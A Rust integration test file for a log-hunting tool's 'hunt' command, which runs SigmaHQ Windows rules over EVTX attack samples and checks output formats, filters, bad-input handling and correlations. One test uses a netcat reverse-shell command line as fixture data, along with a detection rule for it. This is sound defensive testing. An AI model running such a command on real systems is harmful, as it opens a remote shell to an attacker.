//! `outpost hunt`, the built binary, with the SigmaHQ Windows rules over the real EVTX attack
//! samples: the JSON lines' shape and known detections, the table and CSV, the filters, the
//! summary, and bad input (a non-log file, a corrupt EVTX file, a missing path, broken rule
//! files) reported, counted and not stopping the hunt. Exit status as documented in
//! `outpost hunt --help`.

use serde_json::Value;
use std::process::{Command, Output};

fn hunt(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_outpost"))
        .arg("hunt")
        .args(args)
        .env("OUTPOST_LOG", "warn")
        .output()
        .expect("run outpost hunt")
}

/// RFC 4180 records (quoted fields may hold commas, quotes and line breaks).
fn parse_csv(s: &str) -> Vec<Vec<String>> {
    let (mut rows, mut row, mut field) = (Vec::new(), Vec::new(), String::new());
    let mut quoted = false;
    let mut it = s.chars().peekable();
    while let Some(c) = it.next() {
        match (quoted, c) {
            (true, '"') if it.peek() == Some(&'"') => {
                it.next();
                field.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => field.push(c),
            (false, '"') => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut field)),
            (false, '\r') if it.peek() == Some(&'\n') => {}
            (false, '\n') => {
                row.push(std::mem::take(&mut field));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => field.push(c),
        }
    }
    rows
}

fn text(b: &[u8]) -> String {
    String::from_utf8_lossy(b).into_owned()
}

fn json_lines(o: &Output) -> Vec<Value> {
    text(&o.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("not JSON ({e}): {l}")))
        .collect()
}

struct Shared {
    samples: std::path::PathBuf,
    rules: std::path::PathBuf,
}

fn shared() -> Option<Shared> {
    Some(Shared {
        samples: outpost_testkit::shared("data/evtx/attack-samples")?,
        rules: outpost_testkit::shared("data/sigma/rules/windows")?,
    })
}

/// Known detections (file, rule title), pinned with the rest in
/// `crates/outpost-hunt/tests/golden/sigmahq_windows_evtx.txt` and checked by hand there:
/// meterpreter's hashdump opens lsass through a remote thread; the UACMe sample runs Akagi.
const KNOWN: &[(&str, &str)] = &[
    (
        "Credential_Access/CA_sysmon_hashdump_cmd_meterpreter.evtx",
        "Password Dumper Remote Thread in LSASS",
    ),
    (
        "Credential_Access/CA_sysmon_hashdump_cmd_meterpreter.evtx",
        "Potentially Suspicious GrantedAccess Flags On LSASS",
    ),
];

#[test]
fn json_over_the_attack_samples_has_the_documented_shape_and_known_detections() {
    let Some(s) = shared() else { return };
    let o = hunt(&[
        "--rules",
        s.rules.to_str().unwrap(),
        "--json",
        s.samples.to_str().unwrap(),
    ]);
    let err = text(&o.stderr);
    assert_eq!(o.status.code(), Some(0), "stderr: {err}");
    let ds = json_lines(&o);
    assert!(ds.len() > 500, "only {} detections", ds.len());
    for d in &ds {
        for k in [
            "file",
            "record_id",
            "time",
            "channel",
            "event_id",
            "computer",
            "rule_id",
            "title",
            "level",
            "attack",
            "tags",
            "matched",
            "correlation",
            "event",
        ] {
            assert!(d.get(k).is_some(), "no {k} in {d}");
        }
        assert!(d["file"].as_str().unwrap().ends_with(".evtx"));
        assert!(d["record_id"].as_u64().is_some(), "{d}");
        assert!(d["matched"].is_object());
        assert!(d["event"]["ts"].is_string(), "the event is embedded: {d}");
        assert!(
            ["informational", "low", "medium", "high", "critical"]
                .contains(&d["level"].as_str().unwrap())
        );
        for t in d["attack"].as_array().unwrap() {
            assert!(t.as_str().unwrap().starts_with("attack."));
        }
    }
    // A timeline: sorted by event time.
    let times: Vec<&str> = ds.iter().map(|d| d["time"].as_str().unwrap()).collect();
    let parsed: Vec<chrono::DateTime<chrono::Utc>> =
        times.iter().map(|t| t.parse().unwrap()).collect();
    assert!(
        parsed.windows(2).all(|w| w[0] <= w[1]),
        "not sorted by time"
    );
    for (file, title) in KNOWN {
        assert!(
            ds.iter()
                .any(|d| d["file"].as_str().unwrap().ends_with(file)
                    && d["title"].as_str().unwrap() == *title),
            "no {title:?} in {file}"
        );
    }
    // Matched fields name the Sigma fields with the event's values.
    assert!(
        ds.iter().any(|d| d["matched"]
            .as_object()
            .unwrap()
            .keys()
            .any(|k| k == "CommandLine" || k == "Image")),
        "no matched CommandLine/Image anywhere"
    );
    // The summary on stderr, with the unsupported rules listed with reasons ("not loaded:").
    let summary = [
        "files: 277 read (277 evtx)".to_string(),
        "rules: ".into(),
        " loaded from ".into(),
        "not loaded:".into(),
        format!("detections: {} (", ds.len()),
    ];
    for want in &summary {
        assert!(err.contains(want.as_str()), "{want:?} not in {err}");
    }
}

/// A small hunt reused by the format and filter tests: the Credential_Access samples.
fn small(s: &Shared, extra: &[&str]) -> Output {
    let dir = s.samples.join("Credential_Access");
    let mut a = vec!["--rules", s.rules.to_str().unwrap()];
    a.extend_from_slice(extra);
    a.push(dir.to_str().unwrap());
    hunt(&a)
}

#[test]
fn table_csv_and_json_agree_and_filters_narrow() {
    let Some(s) = shared() else { return };
    let all = json_lines(&small(&s, &["--json"]));
    assert!(all.len() > 20, "{}", all.len());

    // Table: a header and one line per detection (stdout is a pipe here: no cutting).
    let t = small(&s, &[]);
    assert_eq!(t.status.code(), Some(0));
    let table = text(&t.stdout);
    let mut lines = table.lines();
    let head = lines.next().unwrap();
    for c in ["time (UTC)", "level", "rule", "computer", "matched"] {
        assert!(head.contains(c), "{head}");
    }
    assert_eq!(lines.count(), all.len());
    assert!(table.contains(all[0]["title"].as_str().unwrap()));
    assert!(
        !text(&t.stderr).contains('\r'),
        "no progress bar when stderr is not a terminal"
    );

    // CSV: a header, then one record per detection, same order.
    let c = small(&s, &["--csv"]);
    assert_eq!(c.status.code(), Some(0));
    let csv = text(&c.stdout);
    assert!(csv.starts_with(
        "time,level,rule_id,title,computer,channel,event_id,record_id,file,attack,matched\r\n"
    ));
    let rows = parse_csv(&csv);
    assert!(
        rows.iter().all(|r| r.len() == 11),
        "every record has 11 fields"
    );
    let rows = &rows[1..];
    for (r, d) in rows.iter().zip(&all) {
        assert_eq!(r[2], d["rule_id"].as_str().unwrap());
        assert_eq!(r[3], d["title"].as_str().unwrap());
        assert_eq!(r[7], d["record_id"].to_string());
    }
    assert_eq!(rows.len(), all.len());

    // --level high: only high and critical, fewer.
    let high = json_lines(&small(&s, &["--json", "--level", "high"]));
    assert!(
        !high.is_empty() && high.len() < all.len(),
        "{} of {}",
        high.len(),
        all.len()
    );
    assert!(
        high.iter()
            .all(|d| ["high", "critical"].contains(&d["level"].as_str().unwrap()))
    );
    assert_eq!(
        high.len(),
        all.iter()
            .filter(|d| ["high", "critical"].contains(&d["level"].as_str().unwrap()))
            .count()
    );

    // --rule by id: that rule only, all its detections.
    let id = all[0]["rule_id"].as_str().unwrap();
    let one = json_lines(&small(&s, &["--json", "--rule", id]));
    assert_eq!(one.len(), all.iter().filter(|d| d["rule_id"] == id).count());
    assert!(one.iter().all(|d| d["rule_id"] == id));
    // --rule as a title glob.
    let title = all[0]["title"].as_str().unwrap();
    let glob = format!("{}*", &title[..title.len().min(10)]);
    let g = json_lines(&small(&s, &["--json", "--rule", &glob]));
    assert!(g.iter().any(|d| d["rule_id"] == id));
    assert!(g.iter().all(|d| {
        d["title"]
            .as_str()
            .unwrap()
            .to_lowercase()
            .starts_with(&title[..title.len().min(10)].to_lowercase())
    }));

    // --from/--to: a window around the middle detection keeps only what is inside.
    let mut times: Vec<chrono::DateTime<chrono::Utc>> = all
        .iter()
        .map(|d| d["time"].as_str().unwrap().parse().unwrap())
        .collect();
    times.sort();
    let (lo, hi) = (times[times.len() / 4], times[times.len() * 3 / 4]);
    let w = json_lines(&small(
        &s,
        &[
            "--json",
            "--from",
            &lo.to_rfc3339(),
            "--to",
            &hi.to_rfc3339(),
        ],
    ));
    let want = times.iter().filter(|t| **t >= lo && **t <= hi).count();
    assert_eq!(w.len(), want);
    assert!(w.len() < all.len());
}

#[test]
fn bad_input_is_reported_counted_and_does_not_stop_the_hunt() {
    let Some(s) = shared() else { return };
    let tmp = tempfile::tempdir().unwrap();
    let logs = tmp.path().join("logs");
    std::fs::create_dir_all(logs.join("sub")).unwrap();
    let good = "Credential_Access/CA_sysmon_hashdump_cmd_meterpreter.evtx";
    std::fs::copy(s.samples.join(good), logs.join("sub/good.evtx")).unwrap();
    // Found by the walk, not a log: skipped and counted.
    std::fs::write(logs.join("notes.txt"), "nothing to see\n").unwrap();
    // An EVTX header and then garbage: unreadable, counted as failed.
    let mut bad = b"ElfFile\0".to_vec();
    bad.extend(std::iter::repeat_n(0x41u8, 8192));
    std::fs::write(logs.join("corrupt.evtx"), &bad).unwrap();
    // Named on the command line and not a log: failed.
    let named = tmp.path().join("named.bin");
    std::fs::write(&named, [0u8, 1, 2, 3]).unwrap();
    let missing = tmp.path().join("does-not-exist.evtx");
    // Rules: the SigmaHQ windows directory plus broken rule files.
    let extra_rules = tmp.path().join("rules");
    std::fs::create_dir_all(&extra_rules).unwrap();
    std::fs::write(
        extra_rules.join("broken.yml"),
        "title: [unclosed\n  detection: {\n",
    )
    .unwrap();
    std::fs::write(
        extra_rules.join("native_bad.yml"),
        "rules:\n  - id: bad-native\n    condition: {field: no.such.field, equals: x}\n",
    )
    .unwrap();

    let o = hunt(&[
        "--rules",
        s.rules.to_str().unwrap(),
        "--rules",
        extra_rules.to_str().unwrap(),
        "--json",
        logs.to_str().unwrap(),
        named.to_str().unwrap(),
        missing.to_str().unwrap(),
    ]);
    let err = text(&o.stderr);
    assert_eq!(o.status.code(), Some(3), "partial hunt: {err}");
    let ds = json_lines(&o);
    assert!(
        ds.iter()
            .any(|d| d["file"].as_str().unwrap().ends_with("good.evtx")),
        "the readable file was hunted: {err}"
    );
    assert!(
        err.contains("files: 1 read (1 evtx), 1 skipped (not a log), 3 failed"),
        "{err}"
    );
    assert!(err.contains("corrupt.evtx"), "{err}");
    assert!(err.contains("named.bin: not a log file"), "{err}");
    assert!(err.contains("does-not-exist.evtx"), "{err}");
    assert!(err.contains("invalid YAML"), "{err}");
    assert!(err.contains("invalid native rule"), "{err}");
}

#[test]
fn without_rules_it_says_how_to_get_them() {
    let o = hunt(&["/nonexistent"]);
    assert_eq!(o.status.code(), Some(2));
    let err = text(&o.stderr);
    assert!(
        err.contains("git clone") && err.contains("SigmaHQ/sigma") && err.contains("--rules"),
        "{err}"
    );
    // An empty rules directory: no rule loaded is an error (1), with the same hint.
    let tmp = tempfile::tempdir().unwrap();
    let o = hunt(&[
        "--rules",
        tmp.path().to_str().unwrap(),
        tmp.path().to_str().unwrap(),
    ]);
    assert_eq!(o.status.code(), Some(1));
    assert!(
        text(&o.stderr).contains("no rule loaded"),
        "{}",
        text(&o.stderr)
    );
}

#[test]
fn outpost_json_lines_are_hunted_like_evtx() {
    // Outpost's own buffer format: one serialized event per line. A native rule on it.
    let tmp = tempfile::tempdir().unwrap();
    let mut e = outpost_core::Event::new(
        "2026-01-02T03:04:05Z".parse().unwrap(),
        outpost_core::EventKind::ProcessExec,
        "proc_connector",
    );
    e.process = Some(std::sync::Arc::new(outpost_core::event::ProcessInfo {
        pid: 42,
        name: Some("nc".into()),
        exe: Some("/usr/bin/nc".into()),
        command_line: Some("nc -e /bin/sh 10.0.0.1 4444".into()),
        ..Default::default()
    }));
    let line = serde_json::to_string(&e).unwrap();
    let buf = tmp.path().join("events_20260102_03.jsonl");
    std::fs::write(&buf, format!("{line}\nnot json\n{line}\n")).unwrap();
    let rules = tmp.path().join("rules.yml");
    std::fs::write(
        &rules,
        "rules:\n  - id: reverse-shell-nc\n    name: Netcat reverse shell\n    score: 80\n    condition: {field: process.command_line, contains: ' -e /bin/sh'}\n",
    )
    .unwrap();
    let o = hunt(&[
        "--rules",
        rules.to_str().unwrap(),
        "--json",
        tmp.path().to_str().unwrap(),
    ]);
    let err = text(&o.stderr);
    assert_eq!(o.status.code(), Some(0), "{err}");
    let ds = json_lines(&o);
    assert_eq!(ds.len(), 2, "{err}");
    assert_eq!(ds[0]["rule_id"], "reverse-shell-nc");
    assert_eq!(
        ds[0]["level"], "high",
        "a native rule's level comes from its score"
    );
    assert_eq!(
        ds[0]["matched"]["process.command_line"],
        "nc -e /bin/sh 10.0.0.1 4444"
    );
    assert!(err.contains("files: 1 read (1 jsonl)"), "{err}");
    assert!(
        err.contains("records: 3 read") && err.contains("1 malformed"),
        "{err}"
    );
}

/// Sigma correlation rules and `expand` placeholders through the binary: a
/// temporal_ordered correlation (failed then successful logon of one user) over the real
/// sample gives one detection with its `correlation` object and no detection of the quiet
/// rules it refers to; a rule using `%users%` is not loaded without `--placeholders` (the
/// summary names the placeholder) and matches with it.
#[test]
fn correlations_and_placeholders() {
    let Some(s) = shared() else { return };
    let sample = s
        .samples
        .join("Credential_Access/CA_4624_4625_LogonType2_LogonProc_chrome.evtx");
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("mr_logons.yml"),
        r#"title: Failed logon
id: 7a1d0c3e-0001-4f00-8000-000000000001
name: failed_logon
logsource: {product: windows, service: security}
detection:
    selection: {EventID: 4625}
    condition: selection
---
title: Successful logon
id: 7a1d0c3e-0001-4f00-8000-000000000002
name: successful_logon
logsource: {product: windows, service: security}
detection:
    selection: {EventID: 4624}
    condition: selection
---
title: Failed logon followed by a successful one
id: 7a1d0c3e-0001-4f00-8000-000000000003
correlation:
    type: temporal_ordered
    rules: [failed_logon, successful_logon]
    group-by: [TargetUserName]
    timespan: 1m
level: high
---
title: Logon of a watched user
id: 7a1d0c3e-0001-4f00-8000-000000000004
logsource: {product: windows, service: security}
detection:
    selection:
        EventID: 4624
        TargetUserName|expand: '%users%'
    condition: selection
level: low
"#,
    )
    .unwrap();
    let placeholders = dir.path().join("placeholders.yml");
    std::fs::write(&placeholders, "users: [ieuser, alice]\n").unwrap();
    let rules = dir.path().to_str().unwrap().to_string();
    let file = sample.to_str().unwrap().to_string();

    let o = hunt(&["--rules", &rules, "--json", &file]);
    let err = text(&o.stderr);
    assert_eq!(o.status.code(), Some(0), "stderr: {err}");
    assert!(
        err.contains("placeholder '%users%' has no values"),
        "stderr: {err}"
    );
    let ds = json_lines(&o);
    assert_eq!(ds.len(), 1, "{ds:#?}");
    let d = &ds[0];
    assert_eq!(d["rule_id"], "7a1d0c3e-0001-4f00-8000-000000000003");
    assert_eq!(d["level"], "high");
    assert_eq!(d["event_id"], 4624);
    assert_eq!(d["matched"]["TargetUserName"], "IEUser");
    let c = &d["correlation"];
    assert_eq!(c["type"], "temporal_ordered");
    assert_eq!(c["count"], 2);
    let evs = c["events"].as_array().unwrap();
    assert_eq!(evs.len(), 2, "{c}");
    assert_eq!(evs[0]["rule_id"], "7a1d0c3e-0001-4f00-8000-000000000001");
    assert_eq!(evs[1]["rule_id"], "7a1d0c3e-0001-4f00-8000-000000000002");

    let p = placeholders.to_str().unwrap().to_string();
    let o = hunt(&["--rules", &rules, "--placeholders", &p, "--json", &file]);
    let err = text(&o.stderr);
    assert_eq!(o.status.code(), Some(0), "stderr: {err}");
    assert!(!err.contains("has no values"), "stderr: {err}");
    let ids: Vec<String> = json_lines(&o)
        .iter()
        .map(|d| d["rule_id"].as_str().unwrap_or("").to_string())
        .collect();
    // The correlation, and the watched user's logons (IEUser twice; case ignored).
    assert_eq!(
        ids.iter()
            .filter(|i| *i == "7a1d0c3e-0001-4f00-8000-000000000004")
            .count(),
        2,
        "{ids:?}"
    );
    assert!(ids.contains(&"7a1d0c3e-0001-4f00-8000-000000000003".to_string()));
    // A placeholder file that is not a map is a clear error.
    std::fs::write(&placeholders, "- just\n- a list\n").unwrap();
    let o = hunt(&["--rules", &rules, "--placeholders", &p, &file]);
    assert_eq!(o.status.code(), Some(1));
    assert!(
        text(&o.stderr).contains("--placeholders"),
        "{}",
        text(&o.stderr)
    );
}
